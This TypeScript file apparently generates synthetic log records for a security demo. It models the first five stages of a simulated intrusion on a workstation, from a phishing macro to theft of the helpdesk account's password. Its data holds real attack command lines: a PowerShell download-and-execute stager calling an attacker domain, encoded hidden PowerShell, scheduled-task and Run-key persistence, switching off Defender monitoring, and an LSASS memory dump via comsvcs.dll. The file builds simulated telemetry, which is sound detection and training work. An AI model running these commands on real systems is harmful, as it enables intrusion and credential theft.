import { ATTACKER, KEY_HOSTS, PEOPLE, SERVICE_ACCOUNTS } from "../company.ts";
import type { DemoRecord } from "../demo-record.ts";
import { eveRecord, firewallRecord, proxyRecord } from "../network-records.ts";
import { type Desktop, type Fleet, PROGRAMS } from "../windows/fleet.ts";
import { defenderEvent, loggedOn, privilegesAssigned, scriptBlock } from "../windows/security-events.ts";
import type { Process, Program } from "../windows/windows-host.ts";
import type { Act, Stage } from "./act.ts";

const DOCUMENT = "Invoice 20418.docm";
const STAGER = `IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER.domain}/a')`;
const IMPLANT = "C:\\Users\\Public\\odsync.exe";
const OFFICE = ["Microsoft Office", "Microsoft Corporation"] as const;

const DOWNLOAD = { fromPort: 51_022, to: ATTACKER.ip, toPort: 80, sent: 640, received: 481_280 } as const;

/** What the sensor sees of it. */
const HTTP = {
  hostname: ATTACKER.ip,
  url: "/odsync.exe",
  http_user_agent: "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.4249",
  http_content_type: "application/x-dosexec",
  http_method: "GET",
  protocol: "HTTP/1.1",
  status: 200,
  length: 481_280,
} as const;
const SENSOR_ALERT = {
  action: "allowed",
  gid: 1,
  signature_id: 9_000_001,
  rev: 2,
  signature: "BRIGHTWATER MALWARE Loader Check-In",
  category: "Malware Command and Control Activity Detected",
  severity: 1,
} as const;

/** The processes of the intruder that later acts go on from. */
export type Foothold = { readonly desktop: Desktop; readonly shell: Process; readonly implant: Process };

/** The first five acts, all on the workstation of the person who opened the attachment. */
export function playFoothold(stage: Stage): { readonly acts: readonly Act[]; readonly foothold: Foothold } {
  const { fleet, start } = stage;
  const desktop = victimOf(fleet);
  const word = openAttachment(desktop, start);
  const stager = runStager(stage, desktop, { word: word.process, time: start + 14_000 });
  const implant = stayThere(desktop, { shell: stager.process, time: start + 40_000 });
  return {
    acts: [
      { name: "phishing attachment opened", records: word.records },
      { name: "encoded PowerShell fetches an implant", records: stager.records },
      { name: "implant stays", records: implant.records },
      { name: "discovery", records: lookAround(desktop, stager.process, start + 62_000) },
      { name: "credential access", records: stealCredentials(desktop, stager.process, start + 100_000) },
    ],
    foothold: { desktop, shell: stager.process, implant: implant.process },
  };
}

function victimOf(fleet: Fleet): Desktop {
  const desktop = fleet.desktops.find(({ person }) => person === PEOPLE[0]);
  if (desktop === undefined) throw new Error("the person of the story has no workstation");
  return desktop;
}

type Played = { readonly process: Process; readonly records: readonly DemoRecord[] };

/** The mail client saves the attachment, Word opens it, and its macro starts a shell. */
function openAttachment({ on, mail, person }: Desktop, time: number): Played {
  const folder = `C:\\Users\\${person.account}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2X7QW1A`;
  const path = `${folder}\\${DOCUMENT}`;
  const word = on.start(
    mail,
    { image: PROGRAMS.word, commandLine: `"${PROGRAMS.word}" /n "${path}"`, product: OFFICE },
    time + 2600,
  );
  const shell = on.start(
    word.process,
    { image: PROGRAMS.cmd, commandLine: "cmd.exe /c ver", originalName: "Cmd.Exe" },
    time + 9000,
  );
  return {
    process: word.process,
    records: [on.write(mail, path, time), word.record, shell.record, on.end(shell.process, time + 9300)],
  };
}

/** The macro runs PowerShell, which fetches the implant past proxy, sensor and firewall. */
function runStager(
  { random }: Stage,
  { on, person }: Desktop,
  { word, time }: { readonly word: Process; readonly time: number },
): Played {
  const encoded = Buffer.from(STAGER, "utf16le").toString("base64");
  const shell = on.start(
    word,
    {
      image: PROGRAMS.powershell,
      commandLine: `powershell.exe -NoP -W Hidden -Enc ${encoded}`,
      originalName: "PowerShell.EXE",
    },
    time,
  );
  const { process } = shell;
  const flow = { ...DOWNLOAD, from: on.host.ip };
  const records = [
    shell.record,
    scriptBlock(on, process.session, STAGER, time + 600),
    on.resolve(process, ATTACKER.domain, ATTACKER.ip, time + 700),
    on.connect(process, { ip: ATTACKER.ip, port: 80 }, time + 760),
    proxyRecord(time + 900, {
      client: on.host.ip,
      user: person.account,
      method: "GET",
      url: `http://${ATTACKER.domain}/a`,
      host: ATTACKER.domain,
      ip: ATTACKER.ip,
      status: 200,
      bytes: 4096,
      sent: 320,
      userAgent: HTTP.http_user_agent,
    }),
    eveRecord(["http", { http: HTTP, app_proto: "http" }], time + 1400, flow, random),
    eveRecord(["alert", { alert: SENSOR_ALERT, app_proto: "http" }], time + 1450, flow, random),
    firewallRecord(time + 1500, { ...flow, action: "accept" }),
    on.write(process, IMPLANT, time + 2100),
  ];
  return { process, records };
}

/** The implant starts, calls home, and makes sure that it is started again. */
function stayThere(
  { on, session }: Desktop,
  { shell, time }: { readonly shell: Process; readonly time: number },
): Played {
  const implant = on.start(
    shell,
    {
      image: IMPLANT,
      commandLine: IMPLANT,
      folder: "C:\\Users\\Public\\",
      product: ["OneDrive Sync Helper", "-"],
    },
    time,
  );
  const { process } = implant;
  const task = on.start(
    process,
    {
      image: "C:\\Windows\\System32\\schtasks.exe",
      commandLine: `schtasks /create /f /sc onlogon /tn "OneDrive Sync Helper" /tr "${IMPLANT}"`,
    },
    time + 7000,
  );
  const key = `HKU\\${session.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync`;
  return {
    process,
    records: [
      implant.record,
      on.connect(process, { ip: ATTACKER.ip, port: 443 }, time + 1200),
      on.setRegistry(process, [key, IMPLANT], time + 4000),
      task.record,
      on.end(task.process, time + 7300),
    ],
  };
}

function lookAround({ on }: Desktop, shell: Process, time: number): DemoRecord[] {
  const questions: readonly (readonly [tool: string, commandLine: string])[] = [
    ["whoami.exe", "whoami /all"],
    ["nltest.exe", "nltest /domain_trusts /all_trusts"],
    ["net.exe", 'net group "Domain Admins" /domain'],
    ["net.exe", "net view \\\\SRV-FILE01 /all"],
  ];
  return questions.flatMap(([tool, commandLine], index) => {
    const at = time + index * 6000;
    const { process, record } = on.start(shell, { image: `C:\\Windows\\System32\\${tool}`, commandLine }, at);
    return [record, on.end(process, at + 400)];
  });
}

/** The helpdesk's account is signed in for remote help; the memory of LSASS gives its password away. */
function stealCredentials({ on, lsass }: Desktop, shell: Process, time: number): DemoRecord[] {
  const helpdesk = on.signIn(SERVICE_ACCOUNTS.helpdesk, "High", 0);
  const weaken: Program = {
    image: PROGRAMS.powershell,
    commandLine: "powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring $true",
    originalName: "PowerShell.EXE",
    session: helpdesk,
  };
  const dump = "C:\\Windows\\Temp\\lsass-d.dmp";
  const dumper: Program = {
    image: "C:\\Windows\\System32\\rundll32.exe",
    commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${dump} full`,
    originalName: "RUNDLL32.EXE",
    session: helpdesk,
  };
  const first = on.start(shell, weaken, time + 3000);
  const second = on.start(shell, dumper, time + 16_000);
  return [
    loggedOn(on, helpdesk, { type: 3, from: KEY_HOSTS.apps, time }),
    privilegesAssigned(on, helpdesk, time + 4),
    first.record,
    on.end(first.process, time + 5000),
    defenderEvent(on, 5001, time + 5200),
    second.record,
    on.open(second.process, lsass, "0x1fffff", time + 16_300),
    on.write(second.process, dump, time + 17_000),
    on.end(second.process, time + 18_500),
  ];
}
